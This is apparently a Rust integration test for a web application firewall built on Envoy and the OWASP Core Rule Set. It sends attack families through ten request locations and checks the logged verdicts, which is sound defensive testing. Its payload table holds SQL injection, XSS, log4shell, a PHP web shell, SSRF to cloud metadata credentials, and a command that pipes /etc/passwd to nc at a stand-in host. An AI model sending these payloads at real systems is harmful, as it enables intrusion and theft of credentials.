//! Families of attacks in every place of a request where one can stand, against the CRS at
//! paranoia level 1, through the whole chain.

use std::net::Ipv4Addr;
use std::time::Duration;

use glacis_tests::http::Request;
use glacis_tests::http2;
use glacis_tests::stack::Stack;
use serde_json::{Value, json};

use crate::support::{access_log, client, eventually, native, shared};

/// Where in a request a payload stands.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Place {
    Query,
    Path,
    UserAgent,
    Referer,
    Cookie,
    Form,
    Json,
    Multipart,
    Xml,
    GrpcWeb,
}

use Place::{Cookie, Form, GrpcWeb, Json, Multipart, Path, Query, Referer, UserAgent, Xml};

const PLACES: [Place; 10] =
    [Query, Path, UserAgent, Referer, Cookie, Form, Json, Multipart, Xml, GrpcWeb];

/// A family of attacks.
struct Family {
    name: &'static str,
    /// The first three digits of the ids of its rules: one of them must have matched.
    rules: &'static [u64],
    payload: &'static str,
    /// Where the CRS does not look for it at paranoia level 1, and why. Such a request must pass:
    /// a reason that no longer holds is to be taken off the list.
    passes: &'static [(Place, &'static str)],
    /// Where it cannot be written at all, and why.
    impossible: &'static [(Place, &'static str)],
}

const FAMILIES: &[Family] = &[
    Family {
        name: "SQL injection",
        rules: &[942],
        payload: "1' UNION SELECT login, password FROM users-- -",
        passes: &[],
        impossible: &[],
    },
    Family {
        name: "cross-site scripting",
        rules: &[941],
        payload: "<script>alert(document.cookie)</script>",
        passes: &[],
        impossible: &[],
    },
    Family {
        name: "path traversal",
        rules: &[930],
        payload: "../../../../etc/passwd",
        passes: &[(Referer, "930100 and 930110 leave this header out: it is a URL with a path")],
        impossible: &[],
    },
    Family {
        name: "command injection",
        // The name of the file in it is what gives it away in a cookie, and the separator in a path (100041).
        rules: &[932, 930, 100],
        payload: "; cat /etc/passwd | nc 203.0.113.9 4444",
        passes: &[
            (UserAgent, "932 rules read headers from paranoia level 2 on"),
            (Referer, "932 rules read headers from paranoia level 2 on"),
        ],
        impossible: &[],
    },
    Family {
        name: "log4shell",
        rules: &[944],
        payload: "${jndi:ldap://203.0.113.9/a}",
        passes: &[],
        impossible: &[],
    },
    Family {
        name: "PHP injection",
        rules: &[933],
        payload: "<?php system($_GET['c']); ?>",
        passes: &[
            (UserAgent, "933 rules read no headers at paranoia level 1"),
            (Referer, "933 rules read no headers at paranoia level 1"),
        ],
        impossible: &[],
    },
    Family {
        name: "remote file inclusion",
        rules: &[931],
        payload: "http://203.0.113.9/shell.txt?",
        passes: &[
            (Path, "931 rules read arguments only: a URL in a path includes nothing"),
            (UserAgent, "a URL is usual here"),
            (Referer, "a URL is usual here"),
            (Cookie, "931 rules read arguments only"),
        ],
        impossible: &[],
    },
    Family {
        name: "server-side request forgery",
        rules: &[934],
        payload: "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        passes: &[
            (UserAgent, "934110 reads no headers"),
            (Referer, "934110 reads no headers"),
            (Cookie, "934110 reads no cookies"),
        ],
        impossible: &[],
    },
    Family {
        name: "Node.js injection",
        rules: &[934],
        payload: "require('child_process').exec('id')",
        passes: &[(UserAgent, "934100 reads no headers"), (Referer, "934100 reads no headers")],
        impossible: &[],
    },
    Family {
        name: "response splitting",
        rules: &[921],
        payload: "x\r\nSet-Cookie: admin=1\r\n\r\n<html>",
        passes: &[],
        impossible: &[(
            UserAgent,
            "a line break ends the field: the rest is another field, or Envoy's 400",
        )],
    },
];

/// Requests that are attacks as a whole, or are refused for their form: name, the first three
/// digits of a rule, request, status.
fn others() -> Vec<(&'static str, u64, Request, u16)> {
    let sqli = percent(FAMILIES[0].payload);
    let json = "application/json";
    vec![
        (
            "scanner",
            913,
            Request::get("/").header("user-agent", "sqlmap/1.8#stable (https://sqlmap.org)"),
            403,
        ),
        ("hidden file", 930, Request::get("/.git/config"), 403),
        ("open route", 942, Request::get(&format!("/open/echo?q={sqli}")), 403),
        (
            "method",
            911,
            Request { method: "PROPFIND".into(), ..Request::post("/echo", json, "{}") },
            403,
        ),
        ("content type", 920, Request::post("/echo", "application/x-java", "ice"), 403),
        ("argument name", 942, Request::get(&format!("/echo?{sqli}=1")), 403),
        ("unparsable body", 100, Request::post("/echo", json, "{\"a\": "), 400),
    ]
}

fn request(place: Place, payload: &str) -> Request {
    let encoded = percent(payload);
    let form = "application/x-www-form-urlencoded";
    let request = match place {
        Query => Request::get(&format!("/echo?q={encoded}")),
        Path => Request::get(&format!("/files/{encoded}")),
        UserAgent => Request::get("/echo").header("user-agent", payload),
        // Envoy takes away what is no URL in its form.
        Referer => {
            let url = format!("https://shop.example/?q={encoded}");
            Request::get("/echo").header("referer", url)
        }
        Cookie => Request::get("/echo").header("cookie", format!("theme=dark; note={encoded}")),
        Form => Request::post("/echo", form, format!("name=Jo&note={encoded}")),
        Json => Request::post("/echo", "application/json", json!({"note": payload}).to_string()),
        Multipart => Request::post(
            "/echo",
            "multipart/form-data; boundary=b0undary",
            format!(
                "--b0undary\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\n{payload}\r\n\
                 --b0undary--\r\n"
            ),
        ),
        Xml => {
            let text = payload.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;");
            let text = format!("<?xml version=\"1.0\"?><order><note>{text}</note></order>");
            Request::post("/echo", "application/xml", text)
        }
        GrpcWeb => {
            let length = u8::try_from(payload.len()).unwrap();
            let prefix = [0, 0, 0, 0, length + 2, 0x0a, length];
            let frame = [&prefix, payload.as_bytes()].concat();
            Request::post("/echo", "application/grpc-web+proto", frame)
        }
    };
    request.browser()
}

/// Percent-encodes everything that is neither a letter nor a digit.
fn percent(text: &str) -> String {
    let encode = |byte: u8| match byte.is_ascii_alphanumeric() {
        true => char::from(byte).to_string(),
        false => format!("%{byte:02X}"),
    };
    text.bytes().map(encode).collect()
}

/// What was sent, by whom, and what must come of it.
struct Sent {
    name: String,
    from: Ipv4Addr,
    /// The first three digits of rules, one of which must be on the receipt.
    rules: Vec<u64>,
    /// The status; 200 means that it passes.
    status: u16,
    answered: u16,
}

#[test]
fn each_family_in_each_place() {
    check_families(shared());
}

#[test]
fn each_family_in_each_place_natively() {
    check_families(native());
}

/// Sends each row as a client of its own, then looks all of them up in the access log.
#[track_caller]
fn check_families(stack: &Stack) {
    let mut sent = Vec::new();
    let mut send = |name: String, rules: &[u64], request: &Request, status: u16| {
        let from = client();
        let answered = stack.send(from, request).unwrap().status;
        sent.push(Sent { name, from, rules: rules.to_vec(), status, answered });
    };
    for family in FAMILIES {
        for place in PLACES {
            let among = |places: &[(Place, &str)]| places.iter().any(|(other, _)| *other == place);
            if among(family.impossible) {
                continue;
            }
            let status = if among(family.passes) { 200 } else { 403 };
            let name = format!("{} in {place:?}", family.name);
            send(name, family.rules, &request(place, family.payload), status);
        }
    }
    for (name, rules, request, status) in others() {
        send(name.to_owned(), &[rules], &request.browser(), status);
    }
    // The other protocol, the same rules.
    let (from, family) = (client(), &FAMILIES[0]);
    let answered = http2::send(from, stack.proxy(), &request(Json, family.payload)).unwrap();
    let (name, rules) = ("over HTTP/2".to_owned(), family.rules.to_vec());
    sent.push(Sent { name, from, rules, status: 403, answered: answered.status });

    let clients: Vec<_> = sent.iter().map(|sent| sent.from).collect();
    let refused = sent.iter().filter(|sent| sent.answered != 200);
    let refused: Vec<_> = refused.map(|sent| sent.from.to_string()).collect();
    eventually("a record for each refusal in the audit log", Duration::from_secs(5), || {
        let log = stack.audit_log();
        refused.iter().all(|from| log.iter().any(|record| record["client"] == **from))
    });
    let wrong: Vec<_> = sent
        .iter()
        .zip(access_log(stack, &clients))
        .filter_map(|(sent, line)| check(sent, &line).and_then(|()| check_audit(stack, sent)).err())
        .collect();
    assert!(wrong.is_empty(), "{} of {}:\n{}", wrong.len(), sent.len(), wrong.join("\n"));
}

/// The answer, what Envoy says about it, and the receipt must tell the same story.
fn check(sent: &Sent, line: &Value) -> Result<(), String> {
    let Sent { name, rules, status, answered, .. } = sent;
    let wrong = |what: &str| Err(format!("{name}: {what}; answered {answered}: {line}"));
    if answered != status {
        return wrong(&format!("expected {status}"));
    }
    let passes = *status == 200;
    let verdict = if passes { "allow" } else { "deny" };
    if line["glacis"]["verdict"] != verdict {
        return wrong(&format!("the verdict is not {verdict:?}"));
    }
    let details = line["details"].as_str().unwrap_or_default();
    if details != "via_upstream" && passes || !details.starts_with("glacis_deny_rule_") && !passes {
        return wrong("the details do not say who answered");
    }
    let ids = line["glacis"]["rules"].as_array().into_iter().flatten().filter_map(Value::as_str);
    let family = ids.flat_map(str::parse).any(|id: u64| rules.contains(&(id / 1_000)));
    match family == passes {
        true if passes => wrong("a rule of the family has matched"),
        true => wrong(&format!("no rule of {rules:?}")),
        false => Ok(()),
    }
}

/// Exactly what is refused has a record, with the rules.
fn check_audit(stack: &Stack, sent: &Sent) -> Result<(), String> {
    let from = sent.from.to_string();
    let log = stack.audit_log();
    let mut records = log.iter().filter(|record| record["client"] == *from);
    let (record, more) = (records.next(), records.count());
    let matched = record.is_some_and(|record| {
        let ids =
            record["rules"].as_array().into_iter().flatten().flat_map(|rule| rule["id"].as_u64());
        record["status"] == sent.status
            && ids.map(|id| id / 1_000).any(|id| sent.rules.contains(&id))
    });
    match (sent.status == 200, record, matched, more) {
        (true, None, _, _) | (false, Some(_), true, 0) => Ok(()),
        _ => Err(format!("{}: in the audit log {record:?} and {more} more", sent.name)),
    }
}
